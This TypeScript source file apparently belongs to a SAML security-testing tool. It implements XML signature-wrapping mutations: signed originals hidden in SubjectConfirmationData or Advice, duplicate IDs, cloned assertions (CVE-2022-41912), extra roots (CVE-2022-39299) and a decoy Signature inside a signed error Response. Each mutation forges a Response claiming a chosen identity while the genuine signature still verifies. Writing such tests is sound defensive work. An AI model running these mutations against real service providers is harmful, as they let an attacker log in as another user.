/**
 * `saml.signed` attacks that move or copy whole elements of the genuinely signed Response, beside
 * the XSW layouts (./xsw.ts): the signed original stays in the document, so its signature still
 * verifies, while the part an SP may read claims `identity`.
 *
 *   wrap-subject-confirmation-data  the signed original (signatures intact) inside the forged
 *                                   Assertion's SubjectConfirmationData; the outer copy unsigned,
 *                                   IDs zeroed (samlify test/flow.ts "signature wrapped response - case 1")
 *   wrap-advice                     the same inside saml:Advice (node-saml `*.1advice-*` fixtures)
 *   duplicate-id                    an unsigned forged copy carrying the signed element's own ID
 *   multiple-assertions             CVE-2022-41912 (crewjam/saml): an unsigned clone, ID + `_attack`, after the signed Assertion
 *   multiple-roots                  a second root Response after the signed one, or a leading NameID before it (CVE-2022-39299)
 *   signed-error-container          a genuinely signed error Response (StatusCode Requester) carrying a decoy
 *                                   Signature (same SignatureValue) whose ds:Object holds the forged Assertion,
 *                                   tucked into the genuine Signature so the signature still verifies (OneUptime #2981)
 */
import type { Element } from '@xmldom/xmldom';
import { SAML_ASSERTION_NS, childElements, firstChildNamed, insertAfter, parseXml, serializeXml } from '../../saml/dom.ts';
import { DSIG_NS, descendants } from '../../saml/xmldsig.ts';
import { NotApplied, notApplied, type SignedMutation } from './context.ts';
import {
  claimIdentity,
  createPrefixedAs,
  extensionsOf,
  firstAssertion,
  ownSignature,
  parseSent,
  removeSignatures,
  responseAndAssertion,
  rewrite,
  signedParts,
  signedResponse,
  splitDeclaration,
  unsignedCopy,
} from './document.ts';
import { onlyParams, readChoice, readIdentity, readIdentityOnly } from './params.ts';

/** `_000…0` as long as the ID it replaces, the way samlify's wrapping test zeroes IDs. */
const zeroed = (id: string): string => `_${'0'.repeat(Math.max(id.length - 1, 1))}`;

function wrapOriginal(container: 'SubjectConfirmationData' | 'Advice'): SignedMutation<{ identity: string }>['apply'] {
  return (sent, { identity }) =>
    rewrite(sent, (document) => {
      const found = signedResponse(document, 'the Response carries no Assertion to put the original in');
      if (found instanceof NotApplied) return found;
      const { parts, assertion } = found;
      const original = parts[0]!.element.cloneNode(true) as Element;
      for (const part of parts) {
        part.element.removeChild(part.signature);
        part.element.setAttribute('ID', zeroed(part.id));
      }
      claimIdentity(assertion, identity);
      let holder: Element | undefined;
      if (container === 'SubjectConfirmationData') {
        holder = descendants(assertion, 'SubjectConfirmationData', SAML_ASSERTION_NS)[0];
        if (!holder) return notApplied('the Assertion has no SubjectConfirmationData');
      } else {
        holder = firstChildNamed(assertion, 'Advice');
        if (!holder) {
          holder = createPrefixedAs(assertion, SAML_ASSERTION_NS, 'Advice');
          const conditions = firstChildNamed(assertion, 'Conditions');
          if (conditions) insertAfter(holder, conditions);
          else assertion.appendChild(holder);
        }
      }
      holder.appendChild(original);
      return undefined;
    });
}

export const wrapSubjectConfirmationDataMutation: SignedMutation<{ identity: string }> = {
  name: 'wrap-subject-confirmation-data',
  point: 'saml.signed',
  summary: "The signed original inside the forged Assertion's SubjectConfirmationData; the outer Assertion unsigned, IDs zeroed, claiming identity.",
  readParams: readIdentityOnly,
  apply: wrapOriginal('SubjectConfirmationData'),
};

export const wrapAdviceMutation: SignedMutation<{ identity: string }> = {
  name: 'wrap-advice',
  point: 'saml.signed',
  summary: 'The signed original inside saml:Advice of the forged, unsigned Assertion claiming identity.',
  readParams: readIdentityOnly,
  apply: wrapOriginal('Advice'),
};

export const duplicateIdMutation: SignedMutation<{ identity: string }> = {
  name: 'duplicate-id',
  point: 'saml.signed',
  summary: 'An unsigned forged copy carrying the signed element’s ID: two elements answer to the Reference.',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return rewrite(sent, (document) => {
      const parts = signedParts(document);
      if (parts.length === 0) return notApplied('nothing in the document is signed');
      const root = document.documentElement!;
      const signedAssertion = parts.find((part) => part.element.localName === 'Assertion');
      if (signedAssertion) {
        const forged = unsignedCopy(signedAssertion.element);
        claimIdentity(forged, identity);
        signedAssertion.element.parentNode!.insertBefore(forged, signedAssertion.element);
        return undefined;
      }
      // Only the Response is signed: its untouched copy (same ID) goes into Extensions and the
      // Response itself is forged.
      const original = unsignedCopy(root);
      const assertion = firstAssertion(root);
      if (!assertion) return notApplied('the Response carries no Assertion to forge');
      claimIdentity(assertion, identity);
      extensionsOf(root).appendChild(original);
      return undefined;
    });
  },
};

export const multipleAssertionsMutation: SignedMutation<{ identity: string }> = {
  name: 'multiple-assertions',
  point: 'saml.signed',
  summary: 'CVE-2022-41912: an unsigned clone of the Assertion (ID + _attack) claiming identity, appended after the signed one.',
  readParams: readIdentityOnly,
  apply(sent, { identity }) {
    return rewrite(sent, (document) => {
      const found = responseAndAssertion(document, 'the Response carries no Assertion to clone');
      if (found instanceof NotApplied) return found;
      const { root, assertion } = found;
      const clone = unsignedCopy(assertion);
      clone.setAttribute('ID', `${assertion.getAttribute('ID') ?? ''}_attack`);
      claimIdentity(clone, identity);
      root.appendChild(clone);
      return undefined;
    });
  },
};

export const MULTIPLE_ROOT_VARIANTS = ['second-response', 'leading-nameid'] as const;

export const multipleRootsMutation: SignedMutation<{ variant: (typeof MULTIPLE_ROOT_VARIANTS)[number]; identity: string }> = {
  name: 'multiple-roots',
  point: 'saml.signed',
  summary: 'Not one XML document: a second root Response (unsigned, claiming identity) after the signed one, or a leading NameID root before it.',
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['variant', 'identity']);
    const variant = readChoice(raw, 'variant', path, issues, MULTIPLE_ROOT_VARIANTS);
    return { variant: variant ?? 'second-response', identity: readIdentity(raw, path, issues) };
  },
  apply(sent, { variant, identity }) {
    const document = parseSent(sent, 'the document is no longer well-formed XML, so its root cannot be copied');
    if (document instanceof NotApplied) return document;
    const { declaration, body } = splitDeclaration(sent.xml);
    if (variant === 'leading-nameid') {
      const nameId = `<saml2:NameID xmlns:saml2="${SAML_ASSERTION_NS}" Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">${identity}</saml2:NameID>`;
      return { ...sent, xml: `${declaration}${nameId}${body}` };
    }
    const second = document.documentElement!.cloneNode(true) as Element;
    removeSignatures(second);
    claimIdentity(second, identity);
    return { ...sent, xml: `${sent.xml}${serializeXml(second)}` };
  },
};

const STATUS_REQUESTER = 'urn:oasis:names:tc:SAML:2.0:status:Requester';

export const signedErrorContainerMutation: SignedMutation<{ identity: string }> = {
  name: 'signed-error-container',
  point: 'saml.signed',
  summary: 'A genuinely signed error Response (StatusCode Requester, no Assertion) with a decoy Signature whose ds:Object holds an Assertion claiming identity.',
  readParams: readIdentityOnly,
  async apply(sent, { identity }, ctx) {
    const document = parseSent(sent);
    if (document instanceof NotApplied) return document;
    const found = responseAndAssertion(document, 'the Response carries no Assertion to use as the decoy');
    if (found instanceof NotApplied) return found;
    const { root, assertion } = found;
    const decoy = unsignedCopy(assertion);
    removeSignatures(decoy);
    claimIdentity(decoy, identity);

    // The error Response the IdP itself signs: the same envelope, status Requester, no Assertion.
    for (const child of childElements(root)) {
      if (child.localName === 'Assertion' || (child.localName === 'Signature' && child.namespaceURI === DSIG_NS)) root.removeChild(child);
    }
    const statusCode = descendants(root, 'StatusCode', root.namespaceURI ?? undefined)[0];
    if (!statusCode) return notApplied('the Response has no StatusCode');
    statusCode.setAttribute('Value', STATUS_REQUESTER);
    const signedError = parseXml(await ctx.signResponse(serializeXml(document)));
    const errorRoot = signedError.documentElement!;
    const genuine = ownSignature(errorRoot);
    if (!genuine) return notApplied('the signing plan left the error Response unsigned');

    // The decoy: a copy of the genuine Signature whose ds:Object holds the forged Assertion, itself kept
    // in a ds:Object of the genuine Signature, so the error Response's enveloped digest still holds.
    const decoySignature = genuine.cloneNode(true) as Element;
    const decoyObject = createPrefixedAs(genuine, DSIG_NS, 'Object');
    decoyObject.appendChild(signedError.importNode(decoy, true));
    decoySignature.appendChild(decoyObject);
    const holder = createPrefixedAs(genuine, DSIG_NS, 'Object');
    holder.appendChild(decoySignature);
    genuine.appendChild(holder);
    return { ...sent, xml: serializeXml(signedError) };
  },
};
